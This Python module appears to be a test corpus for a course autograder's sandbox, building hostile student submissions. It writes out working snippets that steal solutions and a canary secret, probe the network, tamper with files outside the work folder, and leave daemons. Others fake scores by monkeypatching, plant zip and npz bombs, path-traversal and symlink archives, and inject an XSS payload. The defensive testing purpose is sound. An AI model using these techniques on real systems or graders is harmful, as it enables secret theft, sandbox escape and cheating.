"""Hostile and broken submissions, made from the reference by small scripted edits.

Each ``Case`` says how to make its submission and what grading it must get:

- ``build(files, ctx)`` edits the reference submission's files ({relative path:
  bytes}, as ``autograder.release.demo_submissions.reference_files`` gives them) and
  returns the new files, which are zipped the way ``make_demo_submissions``
  zips them; or, for attacks on the archive itself, ``raw(ctx, path)`` writes
  the zip at ``path``.
- ``breaks``: what the edit breaks, as assignment.toml's ``covers`` entries
  ("file:function") or whole files (an import-time attack breaks every
  function of its file). The checks covering a broken target must score 0
  (or only those named in ``must_zero``, a subset, where a covering check does
  not exercise the broken path), and the total may not exceed the points left.
  With ``isolated``, every check that covers nothing broken keeps full marks.
- ``refused``: intake must refuse the submission (total 0) with a reason.
- ``output``: regexes results.json's ``output`` must match; ``messages``:
  {check: regex} for that check's message; ``flags``: regexes each matched by
  an integrity flag; ``notebooks``: {notebook: regex} for its run message.
- ``all_notebooks``: the attack aims at another notebook's run or executed copy,
  so the corpus test runs every notebook for it (otherwise it runs only those
  the edit can change; see tests/test_hostile_corpus.py, ``notebooks_for``).
- ``defence``: the layer that is meant to stop it (the corpus test counts them).
- ``xfail``: the case shows an attack that still gets through; the reason says
  what would fix it (the test marks it ``xfail(strict=True)``).

``ctx`` (``Context``) gives the paths and secrets of the batch, so attacks can
aim at the real places: the instructor's repository, the other submissions,
the output folder, a canary file with a secret, a listening port on the host.
"""
import ast
import base64
import collections
import dataclasses
import stat
import textwrap
import zipfile
from pathlib import Path

import nbformat

THEORY_NB = "RNN_LSTM_Theory.ipynb"
RNN_NB = "RNN_Captioning.ipynb"
RNN_LAYERS = "cs231n/rnn_layers.py"
RNN_MODEL = "cs231n/classifiers/rnn.py"
THEORY = "cs231n/rnn_theory.py"
GAN = "cs231n/gan_pytorch.py"
VIS = "cs231n/net_visualization_pytorch.py"
TRANSFORMER = "cs231n/transformer_layers.py"


@dataclasses.dataclass(frozen=True)
class Context:
    token: str  # marks every file, process and packet an attack makes
    secret: str  # the canary's content; must never show up in any output
    repo: Path  # the instructor's repository (reference solutions)
    submissions: Path
    out_root: Path
    canary: Path  # a secret file beside the submissions
    port: int  # a host listener on 127.0.0.1 that nothing may reach
    port2: int  # a port nothing may listen on, on the host


@dataclasses.dataclass(frozen=True)
class Case:
    id: str
    description: str
    defence: str
    build: object = None
    raw: object = None
    breaks: tuple = ()
    must_zero: tuple = None
    isolated: bool = True
    refused: bool = False
    output: tuple = ()
    messages: dict = dataclasses.field(default_factory=dict)
    flags: tuple = ()
    notebooks: dict = dataclasses.field(default_factory=dict)
    all_notebooks: bool = False
    xfail: str = ""
    # The time limits it is graded under (test_hostile_corpus.LIMITS): "tight" for most;
    # "short" for a case that ends only at a time limit (it spins, sleeps or forks for ever:
    # the same defence, sooner); "long" for one that must fill a cap (memory) before a time
    # limit ends it, which takes longer the busier the machine.
    time_limits: str = "tight"


# ---------------------------------------------------------------------------
# edits


def _text(files, path):
    return files[path].decode()


def _with(files, path, text):
    return {**files, path: text.encode() if isinstance(text, str) else text}


def _code(template, ctx, **extra):
    """Dedent ``template`` and fill in @NAME@ placeholders from ``ctx`` and ``extra``."""
    text = textwrap.dedent(template).strip("\n")
    values = {"TOKEN": ctx.token, "REPO": str(ctx.repo), "SUBMISSIONS": str(ctx.submissions),
              "OUT": str(ctx.out_root), "CANARY": str(ctx.canary), "PORT": str(ctx.port),
              "PORT2": str(ctx.port2)}
    values.update(extra)
    for key, value in values.items():
        text = text.replace(f"@{key}@", value)
    return text


def _indent(code, spaces):
    return textwrap.indent(code, " " * spaces)


def wrap(path, func, prelude, fallback="return None"):
    """Rename module function ``func`` to ``_original_<func>`` and define ``func``
    anew: ``prelude`` (which may call the original), then ``fallback``."""

    def build(files, ctx):
        text = _text(files, path)
        assert text.count(f"\ndef {func}(") == 1, f"{path}: def {func}( not found once"
        text = text.replace(f"\ndef {func}(", f"\ndef _original_{func}(")
        body = _code(prelude, ctx) + "\n" + _code(fallback, ctx)
        text += f"\n\ndef {func}(*args, **kwargs):\n{_indent(body, 4)}\n"
        return _with(files, path, text)

    return build


def at_import(path, code):
    """Append ``code`` to the module: it runs when the module is imported."""

    def build(files, ctx):
        return _with(files, path, _text(files, path) + "\n\n" + _code(code, ctx) + "\n")

    return build


def _function_node(tree, qualname):
    node, names = tree, qualname.split(".")
    for name in names:
        node = next(n for n in node.body if isinstance(n, (ast.FunctionDef, ast.ClassDef)) and n.name == name)
    return node


def method_prelude(path, qualname, code):
    """Insert ``code`` at the start of the body of ``qualname`` (e.g. Class.method)."""

    def build(files, ctx):
        text = _text(files, path)
        node = _function_node(ast.parse(text), qualname)
        first = node.body[0]
        lines = text.splitlines(keepends=True)
        inserted = _indent(_code(code, ctx), first.col_offset) + "\n"
        lines.insert(first.lineno - 1, inserted)
        return _with(files, path, "".join(lines))

    return build


def replace_text(path, old, new):
    def build(files, ctx):
        text = _text(files, path)
        assert text.count(old) == 1, f"{path}: {old!r} occurs {text.count(old)} times"
        return _with(files, path, text.replace(old, new))

    return build


def chain(*builds):
    def build(files, ctx):
        for step in builds:
            files = step(files, ctx)
        return files

    return build


def _notebook(files, name):
    return nbformat.reads(files[name].decode(), as_version=4)


def notebook_cell(name, code, into_imports=False):
    """Add a code cell right after the notebook's imports cell (or prepend ``code`` to it)."""

    def build(files, ctx):
        nb = _notebook(files, name)
        index = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code" and "import cs231n" in c.source)
        if into_imports:
            nb.cells[index].source = _code(code, ctx) + "\n" + nb.cells[index].source
        else:
            nb.cells.insert(index + 1, nbformat.v4.new_code_cell(_code(code, ctx)))
        return _with(files, name, nbformat.writes(nb).encode())

    return build


def edit_locked_cell(name, grade_id, new_source):
    def build(files, ctx):
        nb = _notebook(files, name)
        cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
        cell.source = new_source
        return _with(files, name, nbformat.writes(nb).encode())

    return build


def drop(name):
    return lambda files, ctx: {k: v for k, v in files.items() if k != name}


def rename(old, new):
    return lambda files, ctx: {(new if k == old else k): v for k, v in files.items()}


def write_zip(path, files):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)


def _raw_entries(path, entries):
    """entries: (name, bytes) or (name, bytes, unix mode); ``name`` may be bytes."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry in entries:
            info = zipfile.ZipInfo(entry[0] if isinstance(entry[0], str) else "placeholder")
            if len(entry) == 3:
                info.external_attr = entry[2] << 16
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, entry[1])


# ---------------------------------------------------------------------------
# attack code used by several cases

STEAL = """
import io, os, zipfile
found = {}
def grab(path):
    try:
        if os.path.isfile(path) and os.path.getsize(path) < (50 << 20):
            with open(path, "rb") as handle:
                found[path] = handle.read()
    except Exception:
        pass
for path in ["@REPO@/cs231n/rnn_theory.py", "@CANARY@", "@SUBMISSIONS@/reference.zip",
             "/proc/1/environ", "/proc/self/environ"]:
    grab(path)
for top in ["@REPO@", "@SUBMISSIONS@", "@OUT@"]:
    for root, dirs, names in os.walk(top):
        dirs[:] = [d for d in dirs if d != ".venv"]
        for name in names:
            grab(os.path.join(root, name))
        if len(found) > 300:
            break
secrets = [p for p, data in found.items() if b"BEGIN SOLUTION" in data or p.endswith(".zip")
           or p == "@CANARY@"]
print("STOLEN:", secrets, os.environ.get("CS231N_HOSTILE_CANARY"))
for data in found.values():
    print(data[:2000].decode("utf-8", "replace"))
stolen = None
for path, data in found.items():
    try:
        if path.endswith(".zip"):
            stolen = zipfile.ZipFile(io.BytesIO(data)).read("cs231n/rnn_theory.py")
        elif path.endswith("rnn_theory.py") and b"BEGIN SOLUTION" in data:
            stolen = data
    except Exception:
        pass
"""

WRITE_OUTSIDE = """
import glob, os, sys
places = ["@REPO@", "@REPO@/cs231n", "@REPO@/autograder/checks", "@REPO@/release", "@REPO@/assignment",
          "@REPO@/cs231n/datasets", "@REPO@/cs231n/datasets/coco_captioning", "@SUBMISSIONS@", "@OUT@",
          os.path.dirname("@SUBMISSIONS@"), "/var/tmp", "/tmp", "/root", "/etc", "/usr/lib",
          ".grader/autograder", ".grader/autograder/checks", "cs231n/datasets/coco_captioning",
          sys.prefix] + glob.glob(sys.prefix + "/lib/python3*/site-packages")
for place in places:
    try:
        with open(os.path.join(place, "escape_@TOKEN@.txt"), "w") as handle:
            handle.write("escaped @TOKEN@")
        print("wrote into", place)
    except Exception as exc:
        print("blocked", place, type(exc).__name__)
for victim in ["@SUBMISSIONS@/reference.zip", "@REPO@/autograder/checks/core.py", "@REPO@/cs231n/rnn_theory.py",
               ".grader/autograder/checks/core.py", "@CANARY@"]:
    try:
        with open(victim, "ab") as handle:
            handle.write(b"\\n# tampered @TOKEN@\\n")
        print("appended to", victim)
    except Exception as exc:
        print("blocked", victim, type(exc).__name__)
"""

NETWORK = """
import socket, time
reached = []
for host, port in [("127.0.0.1", @PORT@), ("::1", @PORT@), ("1.1.1.1", 80), ("8.8.8.8", 53),
                   ("10.0.0.1", 80)]:
    try:
        with socket.create_connection((host, port), timeout=2) as conn:
            conn.sendall(b"@TOKEN@")
        reached.append(host)
    except Exception:
        pass
try:
    socket.getaddrinfo("example.com", 80)
    reached.append("dns")
except Exception:
    pass
try:
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("0.0.0.0", @PORT2@))
    server.listen()
    time.sleep(1.5)  # listening while the host watches
    server.close()
except Exception:
    pass
print("REACHED", reached)
"""

DAEMON = """
import os, subprocess, sys
# The first daemon waits until the runner has recorded the check's end (it does
# so only after ending whatever the check left), then deletes the inputs of
# every check still to come: it can only succeed if it outlived its check.
subprocess.Popen([sys.executable, "-c", "import os, time\\nwhile True:\\n"
                  "    try:\\n        done = open('.grader/io/outputs/gan_networks.status').read() != 'started'\\n"
                  "    except OSError:\\n        done = False\\n"
                  "    if done:\\n        break\\n    time.sleep(0.02)\\n"
                  "[os.remove(os.path.join(r, n)) for r, _, ns in os.walk('.grader/io/inputs') for n in ns]\\n"
                  "time.sleep(600)  # @TOKEN@"],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL, close_fds=True)
if os.fork() == 0:  # and the classic double fork
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["/bin/sleep", "600", "@TOKEN@"])
    os._exit(0)
"""


def _npz_bomb():
    """An .npz whose one member inflates to 1 GiB of zeros (about 1 MB packed)."""
    import io

    header = b"\x93NUMPY\x01\x00"
    text = "{'descr': '<f8', 'fortran_order': False, 'shape': (134217728,), }"
    text += " " * (63 - (len(header) + 2 + len(text)) % 64) + "\n"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("next_h.npy")
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as handle:
            handle.write(header + len(text).to_bytes(2, "little") + text.encode())
            chunk = bytes(1 << 20)
            for _ in range(1024):
                handle.write(chunk)
    return buffer.getvalue()


def npz_bomb_build(files, ctx):
    """beam_search writes a bomb as its own check's output, then ends its process."""
    blob = base64.b64encode(_npz_bomb()).decode()
    code = """
import base64, os
if os.path.isdir(".grader/io/outputs"):
    with open(".grader/io/outputs/beam_search.npz", "wb") as handle:
        handle.write(base64.b64decode(_BOMB))
    os._exit(0)
return None
"""
    files = wrap(THEORY, "beam_search", code)(files, ctx)
    return _with(files, THEORY, _text(files, THEORY) + f"\n_BOMB = {blob!r}\n")


PLANT_SPECIAL_FILES = """
import glob, json, os
current = None
for status in glob.glob(".grader/io/outputs/*.status"):
    try:
        if open(status).read() == "started":
            current = os.path.basename(status)[:-len(".status")]
    except Exception:
        pass
if current:
    out = ".grader/io/outputs/" + current
    os.mkfifo(out + ".npz")  # whoever opens it to read waits for ever
    os.symlink("@CANARY@", out + ".error.txt")  # the grader would read its secret
    os.remove(out + ".status")
    os.mkfifo(out + ".status")  # the runner would block writing its status
    os.symlink("/dev/zero", out + ".log.tmp")
    os._exit(0)
"""

KILL_RUNNER = """
import glob, os, signal
for status in glob.glob(".grader/io/outputs/*.status"):
    with open(status, "w") as handle:
        handle.write('{"state": "exited", "info": ')  # broken JSON everywhere
for name in ("saliency_maps", "class_visualization_step", "multihead_attention"):
    with open(".grader/io/outputs/" + name + ".status", "w") as handle:
        handle.write('{"state": "exited", "info": "forged"}')
if os.path.isdir(".grader/io/outputs"):
    os.kill(os.getppid(), signal.SIGKILL)
"""

MONKEYPATCH = """
import builtins
import numpy
import torch
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.broadcast(a, b).shape, dtype=bool)
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.array_equal = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
builtins.print = lambda *a, **k: None
try:
    from autograder.checks import REGISTRY, core
    core.rel_error = lambda *a, **k: 0.0
    core.compare_arrays = lambda label, *a, **k: core.Criterion(label, True, "patched")
    core.score_parts = lambda name, parts: core.Result(name, 1.0, "passed")
    core.Result.points = lambda self, max_points: max_points
    for check in REGISTRY.values():
        type(check).score = lambda self, got, expected, inputs: [core.Criterion("patched", True)]
except ImportError:  # in a notebook the grader's library is not there
    pass
"""

FAKE_TRAINING = """
self._fake_calls = getattr(self, "_fake_calls", 0) + 1
return 20.0 * 0.9 ** self._fake_calls, {name: np.zeros_like(value) for name, value in self.params.items()}
"""

SDPA = """
if not self.training:
    checked_mask = self._check_inputs(query, key, value, attn_mask)
    N, S, E = query.shape
    T = value.shape[1]
    H, D = self.n_head, self.head_dim
    q = self.query(query).view(N, S, H, D).transpose(1, 2)
    k = self.key(key).view(N, T, H, D).transpose(1, 2)
    v = self.value(value).view(N, T, H, D).transpose(1, 2)
    heads = torch.nn.functional.scaled_dot_product_attention(q, k, v, attn_mask=checked_mask)
    return self.proj(heads.transpose(1, 2).reshape(N, S, E))
"""

XSS_IMAGE = """
from IPython.display import display
display({"image/png": "iVBORw0KGgo' onerror='alert(\\"@TOKEN@\\")' x='",
         "text/plain": "a figure"}, raw=True)
"""

HUGE_OUTPUT = """
import sys
line = "x" * 999 + "\\n"
for _ in range(200_000):  # 200 MB
    sys.stdout.write(line)
"""

HARDCODED = """
import numpy as np
x, prev_h = args[0], args[1]
if x.shape == (2, 5) and np.allclose(x, np.linspace(-0.6, 0.9, num=10).reshape(2, 5)):
    return np.array([[0.4034890719, 0.4219772879, 0.4401210713],
                     [0.0953286944, 0.4851990683, 0.746013538]]), None
return np.zeros((x.shape[0], prev_h.shape[1])), None
"""


def _zip_bomb(ctx, path):
    write_zip(path, ctx_reference(ctx))
    with zipfile.ZipFile(path, "a") as archive:
        info = zipfile.ZipInfo("data/zeros.bin")
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as handle:
            chunk = bytes(1 << 20)
            for _ in range(400):  # 400 MB of zeros, about 400 KB deflated
                handle.write(chunk)


def _traversal(ctx, path):
    entries = list(ctx_reference(ctx).items()) + [
        ("../../escape_" + ctx.token + ".py", b"print('escaped')"),
        ("cs231n/../../../escape2_" + ctx.token + ".py", b"x"),
        ("/var/tmp/escape3_" + ctx.token + ".py", b"x"),
        ("..\\..\\escape4_" + ctx.token + ".py", b"x"),
        ("C:/escape5_" + ctx.token + ".py", b"x"),
        ("//server/share/escape6_" + ctx.token + ".py", b"x"),
    ]
    _raw_entries(path, entries)


def _symlink_out(ctx, path):
    files = ctx_reference(ctx)
    entries = [(n, d) for n, d in files.items() if n != THEORY]
    entries.append((THEORY, str(ctx.repo / THEORY).encode(), stat.S_IFLNK | 0o777))
    entries.append(("notes/canary.txt", str(ctx.canary).encode(), stat.S_IFLNK | 0o777))
    _raw_entries(path, entries)


def _odd_unicode(ctx, path):
    entries = list(ctx_reference(ctx).items()) + [
        ("cs231n/e\u0301t\u00e9.py", b"x = 1\n"),  # decomposed and composed accents
        ("notes/\u202egnp.exe", b"x"),  # right-to-left override
        ("zero\u200bwidth.py", b"x"),  # zero-width space
        ("emoji_\U0001F600.txt", b"x"),
        ("new\nline.txt", b"x"),
        ("cs231n/rnn_l\u0430yers.py", b"raise SystemExit('homoglyph')\n"),  # Cyrillic a
        ("n" * 300 + ".txt", b"x"),  # longer than a file name may be
        ("clash", b"x"), ("clash/inside.txt", b"x"),  # a file and a folder of one name
        ("\ufeffbom.txt", b"x"),
        ("nul\x00byte.txt", b"x"),
    ]
    _raw_entries(path, entries)


def _bad_utf8_names(ctx, path):
    write_zip(path, ctx_reference(ctx))
    data = bytearray(path.read_bytes())
    # Flag the first central-directory name as UTF-8 and make it invalid UTF-8.
    central = data.find(b"PK\x01\x02")
    data[central + 9] |= 0x08  # general purpose flag bit 11 (0x800): UTF-8 names
    data[central + 46] = 0xFF
    path.write_bytes(bytes(data))


def _truncated(ctx, path):
    write_zip(path, ctx_reference(ctx))
    data = path.read_bytes()
    path.write_bytes(data[:len(data) // 2])


def _many_files(ctx, path):
    _raw_entries(path, list(ctx_reference(ctx).items()) + [(f"junk/{i}.txt", b"") for i in range(3000)])


_REFERENCE = {}


def ctx_reference(ctx):
    return _REFERENCE["files"]


def set_reference(files):
    _REFERENCE["files"] = dict(files)


# ---------------------------------------------------------------------------
# the corpus

ALL_THEORY = (THEORY,)

CASES = [
    # --- runaway code in graded functions (hidden checks) ---
    Case("fn_infinite_loop", "sample_noise spins for ever", "per-check time limit",
         build=wrap(GAN, "sample_noise", "while True:\n    pass"),
         breaks=(f"{GAN}:sample_noise",),
         messages={"sample_noise": r"time limit \(ended after [3-5]\.\d s\)"},  # "short" limits: 3 s
         time_limits="short"),
    Case("fn_disk_filler", "ls_discriminator_loss writes 4 MB files into the work folder until stopped",
         "work-folder disk cap (the whole check run stops: later checks are not run)",
         build=wrap(GAN, "ls_discriminator_loss", "i = 0\nwhile True:\n"
                                                  "    open(f'filler{i}.bin', 'wb').write(b'x' * (4 << 20))\n"
                                                  "    i += 1"),
         breaks=(f"{GAN}:ls_discriminator_loss",), isolated=False,
         output=(r"wrote more to disk",)),
    Case("fn_sigint_ignored_loop", "get_optimizer ignores SIGINT/SIGTERM/SIGHUP and spins", "per-check time limit",
         build=wrap(GAN, "get_optimizer", "import signal\nfor s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):\n"
                                          "    signal.signal(s, signal.SIG_IGN)\nwhile True:\n    pass"),
         breaks=(f"{GAN}:get_optimizer",), messages={"get_optimizer": "time limit"}, time_limits="short"),
    Case("fn_extremely_slow", "class_visualization_update_step takes three hours, then answers right",
         "per-check time limit",
         build=wrap(VIS, "class_visualization_update_step",
                    "import time\ntime.sleep(3 * 3600)\n"
                    "return _original_class_visualization_update_step(*args, **kwargs)"),
         breaks=(f"{VIS}:class_visualization_update_step",), messages={"class_visualization_step": "time limit"},
         time_limits="short"),
    Case("fn_os_exit", "one_unit_step_rnn_can_compute calls os._exit(0)", "a forked child per check",
         build=wrap(THEORY, "one_unit_step_rnn_can_compute", "import os\nos._exit(0)"),
         breaks=(f"{THEORY}:one_unit_step_rnn_can_compute",), messages={"step_rnn_impossible": "ended the process"}),
    Case("fn_sys_exit", "discriminator_loss calls sys.exit(0)", "a forked child per check",
         build=wrap(GAN, "discriminator_loss", "import sys\nsys.exit(0)"),
         breaks=(f"{GAN}:discriminator_loss",), messages={"gan_losses": "SystemExit"}),
    Case("import_os_exit", "net_visualization_pytorch calls os._exit(7) when imported", "a forked child per check",
         build=at_import(VIS, "import os\nos._exit(7)"), breaks=(VIS,),
         messages={"saliency_maps": "exit code 7"}),
    Case("import_sys_exit", "gan_pytorch raises SystemExit when imported", "a forked child per check",
         build=at_import(GAN, "import sys\nsys.exit('bye')"), breaks=(GAN,), messages={"gan_losses": "SystemExit"}),
    Case("fn_memory_bomb", "ls_generator_loss fills memory 100 MB at a time", "cgroup memory limit",
         build=wrap(GAN, "ls_generator_loss", "blocks = []\nwhile True:\n    blocks.append(b'x' * (100 << 20))"),
         breaks=(f"{GAN}:ls_generator_loss",), messages={"ls_losses": "killed|memory"}, time_limits="long"),
    Case("fn_fork_bomb", "build_dc_generator forks until the process table is full",
         "process cap + sweep after each check",
         build=wrap(GAN, "build_dc_generator", "import os\nwhile True:\n    try:\n        os.fork()\n"
                                               "    except OSError:\n        pass"),
         breaks=(f"{GAN}:build_dc_generator",), time_limits="short"),
    Case("fn_daemon", "discriminator starts two daemons (one deletes the next checks' inputs), then answers right",
         "sweep after each check + pid namespace",
         build=wrap(GAN, "discriminator", DAEMON + "\nreturn _original_discriminator(*args, **kwargs)")),
    Case("fn_huge_output", "generator prints 200 MB", "file size limit (RLIMIT_FSIZE)",
         build=wrap(GAN, "generator", HUGE_OUTPUT + "\nreturn _original_generator(*args, **kwargs)"),
         breaks=(f"{GAN}:generator",), messages={"gan_networks": "File too large"}),
    Case("fn_network", "compute_saliency_maps answers only if it reaches the host or the internet",
         "network namespace",
         build=wrap(VIS, "compute_saliency_maps", NETWORK + "\nif reached:\n"
                    "    return _original_compute_saliency_maps(*args, **kwargs)", "return None"),
         breaks=(f"{VIS}:compute_saliency_maps",)),
    Case("fn_steal_reference", "count_rnn_weights answers only with a stolen reference (repository, other "
         "submissions, output folder, canary)", "hidden paths (empty tmpfs) + cleared environment",
         build=wrap(THEORY, "count_rnn_weights", STEAL + "\nif stolen:\n    ns = {}\n"
                    "    exec(compile(stolen, 'stolen', 'exec'), ns)\n"
                    "    return ns['count_rnn_weights'](*args, **kwargs)",
                    "return {}"),
         breaks=(f"{THEORY}:count_rnn_weights",)),
    Case("fn_write_outside", "parity_lstm_weights writes into the repository, datasets, venv, grader library, "
         "other submissions and outputs", "read-only root + one writable folder",
         build=wrap(THEORY, "parity_lstm_weights", WRITE_OUTSIDE, "return {}"),
         breaks=(f"{THEORY}:parity_lstm_weights",)),
    Case("import_monkeypatch", "rnn_theory patches numpy, torch, builtins and the grader's comparison and "
         "scoring when imported; count_rnn_weights is wrong", "scoring outside the sandbox",
         build=chain(at_import(THEORY, MONKEYPATCH), wrap(THEORY, "count_rnn_weights", "return {}")),
         breaks=(f"{THEORY}:count_rnn_weights",)),
    Case("fn_kill_runner", "make_fooling_image forges statuses (broken JSON, fake 'exited') and tries to kill "
         "the check runner", "seals (statuses are not believed); the runner is the sandbox's pid 1",
         build=wrap(VIS, "make_fooling_image", KILL_RUNNER), breaks=(f"{VIS}:make_fooling_image",),
         messages={"fooling_image": "should be a torch tensor, got NoneType"}),
    Case("fn_npz_bomb", "beam_search leaves a 1 GiB-inflating npz as its check's output and exits",
         "bounded output loading", build=npz_bomb_build, breaks=(f"{THEORY}:beam_search",),
         messages={"beam_search": "compressed or too large"}),
    Case("fn_planted_special_files", "PositionalEncoding.forward leaves FIFOs and links (to the canary, to "
         "/dev/zero) where the runner and the grader read", "plain files only, after each run",
         build=method_prelude(TRANSFORMER, "PositionalEncoding.forward", PLANT_SPECIAL_FILES),
         breaks=(f"{TRANSFORMER}:PositionalEncoding.forward",)),
    # --- wrong answers of every shape ---
    Case("returns_nan", "lstm_step_forward returns NaN (cell and hidden state)", "value checks (finiteness)",
         build=replace_text(RNN_LAYERS, "    next_c = f * prev_c + i * g\n",
                            "    next_c = (f * prev_c + i * g) * np.nan\n"),
         breaks=(f"{RNN_LAYERS}:lstm_step_forward",), must_zero=("lstm_step_forward",),
         messages={"lstm_step_forward": "NaN"}),
    Case("wrong_shape", "rnn_forward drops the last time step", "value checks (shapes)",
         build=wrap(RNN_LAYERS, "rnn_forward", "h, cache = _original_rnn_forward(*args, **kwargs)\n"
                                              "return h[:, :-1], cache"),
         breaks=(f"{RNN_LAYERS}:rnn_forward",), must_zero=("rnn_forward",), messages={"rnn_forward": "shape"}),
    Case("wrong_dtype", "word_embedding_forward returns integers", "value checks (dtypes)",
         build=wrap(RNN_LAYERS, "word_embedding_forward",
                    "out, cache = _original_word_embedding_forward(*args, **kwargs)\n"
                    "return out.astype('int64'), cache"),
         breaks=(f"{RNN_LAYERS}:word_embedding_forward",), must_zero=("word_embedding_forward",),
         messages={"word_embedding_forward": "dtype"}),
    Case("torch_where_numpy", "rnn_step_backward returns torch tensors (and imports torch)",
         "output type checks + integrity flag",
         build=wrap(RNN_LAYERS, "rnn_step_backward",
                    "import torch\ngrads = _original_rnn_step_backward(*args, **kwargs)\n"
                    "return tuple(torch.from_numpy(g) for g in grads)"),
         breaks=(f"{RNN_LAYERS}:rnn_step_backward",), must_zero=("rnn_step_backward",),
         messages={"rnn_step_backward": "numpy array"}, flags=(r"rnn_layers\.py:\d+: imports torch",)),
    Case("hardcoded_visible", "rnn_step_forward returns the notebook's expected values on its visible inputs, "
         "zeros elsewhere", "hidden inputs from the grading seed",
         build=wrap(RNN_LAYERS, "rnn_step_forward", HARDCODED),
         breaks=(f"{RNN_LAYERS}:rnn_step_forward",), must_zero=("rnn_step_forward",)),
    Case("fake_training_loss", "CaptioningRNN.loss reports a made-up falling loss and zero gradients",
         "training checks", build=method_prelude(RNN_MODEL, "CaptioningRNN.loss", FAKE_TRAINING),
         breaks=(f"{RNN_MODEL}:CaptioningRNN.loss",)),
    Case("rewrite_earlier_output", "importing classifiers/rnn.py (first in a later check) overwrites the "
         "rnn_step_forward check's saved output", "seals: the runner's digest of each check's outputs",
         build=at_import(RNN_MODEL, """
             import os as _os
             import numpy as _np
             _earlier = _os.path.join(".grader", "io", "outputs", "rnn_step_forward.npz")
             if _os.path.exists(_earlier):
                 _np.savez(_earlier, next_h=_np.zeros((1, 1)))
             """),
         breaks=(f"{RNN_LAYERS}:rnn_step_forward",), must_zero=("rnn_step_forward",),
         messages={"rnn_step_forward": "changed after the check"}),
    Case("syntax_error", "rnn_theory.py does not parse", "a forked child per check + integrity flag",
         build=at_import(THEORY, "def broken(:\n    pass"), breaks=ALL_THEORY,
         flags=(r"rnn_theory\.py: does not parse",)),
    Case("parser_bomb", "gan_pytorch.py nests 100000 attribute accesses (crashes ast.parse)",
         "integrity flags never raise", build=at_import(GAN, "x = y" + ".a" * 100000), breaks=(GAN,),
         flags=(r"gan_pytorch\.py: does not parse",)),
    # --- integrity flags, which cost no points ---
    Case("integrity_torch_in_numpy", "rnn_step_forward computes tanh with torch", "integrity flag (no points lost)",
         build=replace_text(RNN_LAYERS, "    next_h = np.tanh(x @ Wx + prev_h @ Wh + b)\n",
                            "    import torch\n"
                            "    next_h = torch.tanh(torch.from_numpy(x @ Wx + prev_h @ Wh + b)).numpy()\n"),
         flags=(r"rnn_layers\.py:\d+: imports torch in a NumPy-only module",)),
    Case("integrity_sdpa", "MultiHeadAttention.forward uses scaled_dot_product_attention in eval mode",
         "integrity flag (no points lost)", build=method_prelude(TRANSFORMER, "MultiHeadAttention.forward", SDPA),
         flags=(r"transformer_layers\.py:\d+: uses PyTorch's scaled_dot_product_attention",)),
    Case("integrity_nn_mha", "transformer_layers keeps a helper built on nn.MultiheadAttention",
         "integrity flag (no points lost)",
         build=at_import(TRANSFORMER, "def _shortcut(embed_dim, num_heads):\n"
                                      "    return nn.MultiheadAttention(embed_dim, num_heads, batch_first=True)"),
         flags=(r"transformer_layers\.py:\d+: uses PyTorch's MultiheadAttention",)),
    Case("edited_locked_cell", "the visible test cell of count_rnn_weights is replaced by print('ok')",
         "locked-cell checksum flag (no points lost)",
         build=edit_locked_cell(THEORY_NB, "step_rnn_weights", "print('all tests pass')"),
         flags=(r"RNN_LSTM_Theory\.ipynb: the locked cell 'step_rnn_weights' was changed",)),
    # --- notebooks ---
    Case("nb_deleted", "RNN_Captioning.ipynb is missing", "staging (release notebook in its place)",
         build=drop(RNN_NB), output=(r"'RNN_Captioning\.ipynb' is not in the submission",)),
    Case("nb_renamed", "RNN_LSTM_Theory.ipynb handed in as 'RNN_LSTM_Theory (1).ipynb'",
         "staging (release notebook in its place)", build=rename(THEORY_NB, "RNN_LSTM_Theory (1).ipynb"),
         output=(r"'RNN_LSTM_Theory\.ipynb' is not in the submission", r"ignored.*RNN_LSTM_Theory \(1\)\.ipynb")),
    Case("nb_invalid_json", "RNN_Captioning.ipynb is cut off in the middle of its JSON",
         "staging (release notebook in its place)",
         build=lambda files, ctx: _with(files, RNN_NB, files[RNN_NB][:len(files[RNN_NB]) // 2]),
         output=(r"'RNN_Captioning\.ipynb' is not a readable notebook",)),
    Case("nb_sigint_loop", "a theory notebook cell ignores SIGINT and spins", "per-cell time limit",
         build=notebook_cell(THEORY_NB, "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                        "while True:\n    pass"),
         notebooks={THEORY_NB: "time limit|timed out|wall"}, time_limits="short"),
    Case("nb_os_exit_at_import", "the theory notebook's imports cell calls os._exit(1)", "kernel death is reported",
         build=notebook_cell(THEORY_NB, "import os\nos._exit(1)", into_imports=True),
         notebooks={THEORY_NB: "kernel|died|ended"}),
    Case("nb_sys_exit", "a theory notebook cell calls sys.exit(3)", "cell error is reported",
         build=notebook_cell(THEORY_NB, "import sys\nsys.exit(3)"), notebooks={THEORY_NB: "SystemExit|exit|raised"}),
    Case("nb_daemon", "a theory notebook cell leaves daemons behind", "pid namespace + runner's sweep",
         build=notebook_cell(THEORY_NB, DAEMON)),
    Case("nb_memory_bomb", "a theory notebook cell fills memory", "cgroup memory limit",
         build=notebook_cell(THEORY_NB, "blocks = []\nwhile True:\n    blocks.append(b'x' * (100 << 20))"),
         notebooks={THEORY_NB: "memory|kernel|died"}, time_limits="long"),
    Case("nb_huge_output", "a theory notebook cell prints 200 MB", "output caps",
         build=notebook_cell(THEORY_NB, HUGE_OUTPUT)),
